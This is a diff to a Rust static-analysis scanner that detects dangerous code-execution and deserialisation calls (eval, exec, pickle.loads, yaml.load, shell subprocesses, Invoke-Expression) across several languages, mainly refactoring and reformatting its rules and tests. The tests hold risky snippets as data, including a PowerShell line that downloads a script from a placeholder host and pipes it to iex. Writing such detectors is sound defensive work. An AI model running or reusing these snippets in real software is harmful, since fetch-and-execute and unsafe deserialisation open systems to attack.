@@ -38,6 +38,9 @@ pub fn scan(src: &str, family: Family) -> Option<Hit> {
 
 type Found = Option<(&'static str, usize)>;
 
+/// A named rule: the name documents it; the function finds it.
+type Rule = (&'static str, fn(&str, &str) -> Found);
+
 /// Calls of `name(` where `name` is a free function (not a method: no `.`
 /// before it) and a whole word.
 fn free_calls<'a>(code: &'a str, name: &'a str) -> impl Iterator<Item = usize> + 'a {
@@ -83,10 +86,13 @@ fn args_of(code: &str, from: &str, at: usize) -> String {
 }
 
 fn python(src: &str, code: &str) -> Found {
-    let rules: [(&'static str, fn(&str, &str) -> Found); 8] = [
+    let rules: [Rule; 8] = [
         ("eval", |_, c| first("eval", free_calls(c, "eval"))),
         ("exec", |_, c| first("exec", free_calls(c, "exec"))),
         ("compile(..., 'exec')", |s, c| {
+            if !s.contains("exec") {
+                return None;
+            }
             first(
                 "compile(..., 'exec')",
                 free_calls(c, "compile").filter(|&at| {
@@ -106,7 +112,11 @@ fn python(src: &str, code: &str) -> Found {
             ] {
                 if let Some(at) = dotted_calls(c, name).next() {
                     return Some((
-                        if name.ends_with('s') { "pickle.loads" } else { "pickle.load" },
+                        if name.ends_with('s') {
+                            "pickle.loads"
+                        } else {
+                            "pickle.load"
+                        },
                         at,
                     ));
                 }
@@ -138,10 +148,16 @@ fn python(src: &str, code: &str) -> Found {
             )
         }),
         ("subprocess shell=True", |_, c| {
+            if !c.contains("subprocess") && !c.contains("shell") {
+                return None;
+            }
             for name in ["subprocess.getoutput", "subprocess.getstatusoutput"] {
                 if let Some(at) = dotted_calls(c, name).next() {
                     return Some(("subprocess with a shell", at));
                 }
+            }
+            if !c.contains("shell") {
+                return None;
             }
             for name in ["run", "call", "check_call", "check_output", "Popen"] {
                 let hit = word_positions(c, name).find(|&at| {
@@ -160,7 +176,7 @@ fn python(src: &str, code: &str) -> Found {
 }
 
 fn js(src: &str, code: &str) -> Found {
-    let rules: [(&'static str, fn(&str, &str) -> Found); 4] = [
+    let rules: [Rule; 4] = [
         ("eval", |_, c| first("eval", free_calls(c, "eval"))),
         ("new Function", |_, c| {
             first(
@@ -221,8 +237,7 @@ fn js(src: &str, code: &str) -> Found {
 fn ruby(code: &str) -> Found {
     for name in ["instance_eval", "class_eval", "module_eval", "eval"] {
         for at in word_positions(code, name) {
-            if (name == "eval" && prev_non_blank(code, at) == Some(b'.'))
-                || is_definition(code, at)
+            if (name == "eval" && prev_non_blank(code, at) == Some(b'.')) || is_definition(code, at)
             {
                 continue;
             }
@@ -286,13 +301,16 @@ fn powershell(code: &str) -> Found {
     word_positions(&lower, "iex")
         .find(|&at| {
             // iex as a command: at a statement start or after a pipe.
-            matches!(prev_non_blank(&lower, at), None | Some(b'|' | b';' | b'\n' | b'('))
+            matches!(
+                prev_non_blank(&lower, at),
+                None | Some(b'|' | b';' | b'\n' | b'(')
+            )
         })
         .map(|at| ("Invoke-Expression", at))
 }
 
 /// Runs every rule and keeps the earliest hit in the text.
-fn earliest(src: &str, code: &str, rules: &[(&'static str, fn(&str, &str) -> Found)]) -> Found {
+fn earliest(src: &str, code: &str, rules: &[Rule]) -> Found {
     rules
         .iter()
         .filter_map(|(_, rule)| rule(src, code))
@@ -325,9 +343,15 @@ mod tests {
             Some("compile(..., 'exec')")
         );
         assert_eq!(py("obj = pickle.loads(blob)"), Some("pickle.loads"));
-        assert_eq!(py("with open(p,'rb') as f:\n    d = pickle.load(f)"), Some("pickle.load"));
+        assert_eq!(
+            py("with open(p,'rb') as f:\n    d = pickle.load(f)"),
+            Some("pickle.load")
+        );
         assert_eq!(py("m = marshal.loads(data)"), Some("marshal.loads"));
-        assert_eq!(py("cfg = yaml.load(open('c.yml'))"), Some("yaml.load without a safe loader"));
+        assert_eq!(
+            py("cfg = yaml.load(open('c.yml'))"),
+            Some("yaml.load without a safe loader")
+        );
         assert_eq!(
             py("cfg = yaml.load(s, Loader=yaml.FullLoader)"),
             Some("yaml.load without a safe loader")
@@ -371,7 +395,10 @@ mod tests {
     #[test]
     fn js_primitives_fire_and_lookalikes_stay_quiet() {
         assert_eq!(js_("const v = eval(expr);"), Some("eval"));
-        assert_eq!(js_("const f = new Function('a', 'return a*2');"), Some("new Function"));
+        assert_eq!(
+            js_("const f = new Function('a', 'return a*2');"),
+            Some("new Function")
+        );
         assert_eq!(
             js_("const cp = require('child_process');\ncp.exec(`git ${args}`);"),
             Some("child_process.exec")
@@ -403,9 +430,18 @@ mod tests {
     fn ruby_evals_of_strings_not_blocks() {
         assert_eq!(rb("eval(code)"), Some("eval"));
         assert_eq!(rb("eval \"puts #{x}\""), Some("eval"));
-        assert_eq!(rb("obj.instance_eval(src)"), Some("instance_eval of a string"));
-        assert_eq!(rb("Foo.class_eval <<~RUBY\n  def x; end\nRUBY"), Some("class_eval of a string"));
-        assert_eq!(rb("data = Marshal.load(File.binread(p))"), Some("Marshal.load"));
+        assert_eq!(
+            rb("obj.instance_eval(src)"),
+            Some("instance_eval of a string")
+        );
+        assert_eq!(
+            rb("Foo.class_eval <<~RUBY\n  def x; end\nRUBY"),
+            Some("class_eval of a string")
+        );
+        assert_eq!(
+            rb("data = Marshal.load(File.binread(p))"),
+            Some("Marshal.load")
+        );
         for s in [
             "config.instance_eval do\n  set :x, 1\nend",
             "obj.instance_eval { @secret }",
@@ -421,8 +457,14 @@ mod tests {
     #[test]
     fn php_and_powershell() {
         assert_eq!(php_("<?php eval($code);"), Some("eval"));
-        assert_eq!(php_("$o = unserialize($_COOKIE['x']);"), Some("unserialize"));
-        assert_eq!(php_("$o = json_decode($body); // unserialize( was bad"), None);
+        assert_eq!(
+            php_("$o = unserialize($_COOKIE['x']);"),
+            Some("unserialize")
+        );
+        assert_eq!(
+            php_("$o = json_decode($body); // unserialize( was bad"),
+            None
+        );
         assert_eq!(
             scan("iwr https://x/i.ps1 | iex", Family::PowerShell).map(|h| h.primitive),
             Some("Invoke-Expression")
@@ -431,7 +473,13 @@ mod tests {
             scan("Invoke-Expression $cmd", Family::PowerShell).map(|h| h.primitive),
             Some("Invoke-Expression")
         );
-        assert_eq!(scan("Write-Host 'iex is short for Invoke-Expression'", Family::PowerShell), None);
+        assert_eq!(
+            scan(
+                "Write-Host 'iex is short for Invoke-Expression'",
+                Family::PowerShell
+            ),
+            None
+        );
     }
 
     #[test]
